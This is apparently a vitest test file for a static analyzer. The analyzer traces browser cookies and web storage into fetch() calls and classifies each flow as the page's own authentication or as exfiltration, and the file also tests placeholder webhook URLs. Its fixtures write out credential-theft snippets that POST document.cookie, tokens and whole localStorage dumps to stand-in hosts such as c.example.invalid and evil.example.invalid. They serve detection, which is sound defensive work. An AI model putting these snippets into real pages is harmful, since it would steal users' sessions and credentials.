import { describe, expect, it } from "vitest";
import { analyze, flowSummary, signatures } from "./helpers.js";
import { isPageOwnDestination } from "../../../src/rules/destination.js";
import { authenticationReason } from "../../../src/rules/authentication.js";
import { placeholderDestination } from "../../../src/core/placeholders.js";

const SEND = (expr: string): string => `fetch('https://c.example.invalid/x', { method: 'POST', body: ${expr} });`;

async function sourcesOf(code: string): Promise<string[]> {
  const facts = await analyze({ "index.js": code });
  return facts.flows.map((f) => `${f.source.detail}${f.source.origin ? ` (${f.source.origin})` : ""}`);
}

describe("web page storage as a credential source", () => {
  it.each([
    ["document.cookie", SEND("document.cookie"), "document.cookie"],
    ["a credential key of localStorage", SEND("localStorage.token"), "localStorage.token"],
    ["window.localStorage.getItem of a token key", SEND("window.localStorage.getItem('accessToken')"), 'localStorage.getItem("accessToken")'],
    ["sessionStorage by a computed credential key", "const k = 'auth' + 'Token';\n" + SEND("sessionStorage[k]"), "sessionStorage.authToken"],
    ["another window's storage", "const w = window.open('');\n" + SEND("w.localStorage.token.slice(1, -1)"), "localStorage.token"],
    ["a named session cookie picked out of the jar", "const v = ('; ' + document.cookie).split('; .SITESECURITY=').pop();\n" + SEND("v"), "document.cookie"],
  ])("%s", async (_name, code, detail) => {
    expect(await sourcesOf(code)).toEqual([`${detail} (page)`]);
  });

  it.each([
    ["JSON.stringify(localStorage)", SEND("JSON.stringify(localStorage)"), "JSON.stringify(localStorage)"],
    ["JSON.stringify(window.sessionStorage)", SEND("JSON.stringify(window.sessionStorage)"), "JSON.stringify(sessionStorage)"],
    ["Object.entries(localStorage)", SEND("JSON.stringify(Object.entries(localStorage))"), "Object.entries(localStorage)"],
    ["Object.assign({}, localStorage)", SEND("JSON.stringify(Object.assign({}, window.localStorage))"), "Object.assign({}, localStorage)"],
    ["a spread copy", SEND("JSON.stringify({ ...localStorage })"), "{ ...localStorage }"],
  ])("the whole storage at once: %s", async (_name, code, detail) => {
    expect(await sourcesOf(code)).toEqual([`${detail} (page)`]);
  });

  it("the whole storage sent to the page's own server authenticates", async () => {
    const facts = await analyze({ "index.js": "fetch('/api/backup', { method: 'POST', body: JSON.stringify(localStorage) });" });
    const flow = facts.flows[0]!;
    expect(authenticationReason(flow, signatures())).toBeDefined();
  });

  it.each([
    ["the storage's key names", SEND("JSON.stringify(Object.keys(localStorage))")],
    ["a non-credential storage key", SEND("localStorage.getItem('theme') + localStorage.lang")],
    ["a storage key computed at run time", "const k = location.hash;\n" + SEND("localStorage.getItem(k)")],
    ["a named non-secret cookie (split)", SEND("document.cookie.split('; _ga=').pop()")],
    ["a named non-secret cookie (regex)", SEND("document.cookie.match(/(?:^|;\\s*)_pk_id\\s*=([^;]*)/)[1]")],
  ])("not %s", async (_name, code) => {
    expect(await sourcesOf(code)).toEqual([]);
  });

  it("folds location.origin to the page's origin", async () => {
    const facts = await analyze({ "index.js": "fetch(location.origin + '/api/me', { method: 'POST', body: document.cookie });" });
    expect(flowSummary(facts)).toEqual(["browser-store -> http <page-origin>*/api/me @index.js:1 (import)"]);
  });
});

describe("a page's credential and the page's own server", () => {
  it.each([
    ["/api/me", true],
    ["api/me?x=1", true],
    ["./refresh", true],
    ["<page-origin>*/auth/refresh", true],
    ["<page-origin>", true],
    ["//evil.example.invalid/x", false],
    ["https://evil.example.invalid/x", false],
    ["<page-origin>*.evil.example.invalid/x", false],
    ["*/api", false],
    ["evil.example.invalid/x", false],
  ])("%s is the page's own: %s", (destination, own) => {
    expect(isPageOwnDestination(destination)).toBe(own);
  });

  const flow = (destination: string | undefined, use: "auth" | "payload", origin?: "page") => ({
    source: { kind: "browser-store" as const, location: { file: "a.js", line: 1, column: 1 }, note: "", detail: "localStorage.token", trigger: "call" as const, ...(origin ? { origin } : {}) },
    sink: { channel: "http" as const, location: { file: "a.js", line: 2, column: 1 }, note: "fetch()", trigger: "call" as const, ...(destination ? { destination } : {}) },
    steps: [],
    use,
  });

  it("is authentication when sent to the page's own server, in any part of the request", () => {
    expect(authenticationReason(flow("/api/refresh", "payload", "page"), signatures())).toBeDefined();
    expect(authenticationReason(flow("https://api.example.com/v1", "auth", "page"), signatures())).toBeDefined();
    expect(authenticationReason(flow(undefined, "auth", "page"), signatures())).toBeDefined();
  });

  it("is exfiltration when copied to another host, or when not the page's own", () => {
    expect(authenticationReason(flow("https://api.example.com/v1", "payload", "page"), signatures())).toBeUndefined();
    expect(authenticationReason(flow(undefined, "payload", "page"), signatures())).toBeUndefined();
    expect(authenticationReason(flow("/api/refresh", "payload"), signatures())).toBeUndefined();
  });
});

describe("placeholders set off by stars", () => {
  it.each([
    ["****WEBHOOK-URL****", "****WEBHOOK-URL****"],
    ["** your webhook here **", "** your webhook here **"],
    ["*WEBHOOK*", undefined],
    ["https://*/api/webhooks/*", undefined],
    ["****data****", undefined],
  ])("%s", (destination, expected) => {
    expect(placeholderDestination(destination)).toBe(expected);
  });
});
